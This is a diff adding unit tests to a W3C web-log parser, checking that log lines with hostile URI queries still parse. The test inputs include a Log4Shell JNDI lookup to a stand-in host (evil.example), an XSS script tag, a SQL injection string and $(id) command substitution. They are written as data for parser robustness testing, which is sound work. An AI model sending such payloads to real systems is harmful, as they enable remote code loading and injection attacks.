@@ -30,3 +30,29 @@ describe('w3c #Fields state', () => {
     expect(parseOk(w3c, '2024-01-01 00:00:00 10.0.0.1', ctx).ts).toBe(Date.UTC(2024, 0, 1));
   });
 });
+
+describe('w3c: attack payloads in the URI never make a line unparsed', () => {
+  const payloads: [string, string][] = [
+    ['log4shell in the query', 'x=${jndi:ldap://evil.example/a}'],
+    ['a fragment and a script', 'q=<script>alert(1)</script>#frag'],
+    ['quotes and %00', "id=1'%20or%201=1--%00\"x"],
+    ['braces and dollars', '{{7*7}}$(id)'],
+    ['a literal tab', 'a=1\tb=2'],
+  ];
+  for (const [name, query] of payloads) {
+    it(name, () => {
+      const line = `2024-01-02 10:11:12 10.0.0.10 GET /index.php ${query} 443 - 203.0.113.7 Mozilla/5.0 - 404 0 0 15`;
+      expect(parseOk(w3c, line)).toMatchObject({ 'target.uri.query': query, 'init.host.ip': '203.0.113.7', 'web.request.rc': 404 });
+    });
+  }
+  it('a line starting with "#" in a payload position is still a directive only at the line start', () => {
+    const ctx = makeCtx();
+    expect(w3c.isMeta?.('2024-01-02 10:11:12 10.0.0.10 GET /#/admin - 443 - 203.0.113.7 - - 200 0 0 1', ctx)).toBe(false);
+  });
+  it('tab-separated lines and "quoted values" with spaces', () => {
+    const tabbed = ['2024-01-02', '10:11:12', '10.0.0.10', 'GET', '/a b', 'x=1 y', '443', '-', '203.0.113.7', 'Mozilla/5.0 (X11)', '-', '200', '0', '0', '1'].join('\t');
+    expect(parseOk(w3c, tabbed)).toMatchObject({ 'target.uri.path': '/a b', 'web.header.user_agent': 'Mozilla/5.0 (X11)' });
+    const quoted = '2024-01-02 10:11:12 10.0.0.10 GET /a - 443 - 203.0.113.7 "Mozilla/5.0 (Windows NT 10.0)" - 200 0 0 1';
+    expect(parseOk(w3c, quoted)).toMatchObject({ 'web.header.user_agent': 'Mozilla/5.0 (Windows NT 10.0)' });
+  });
+});
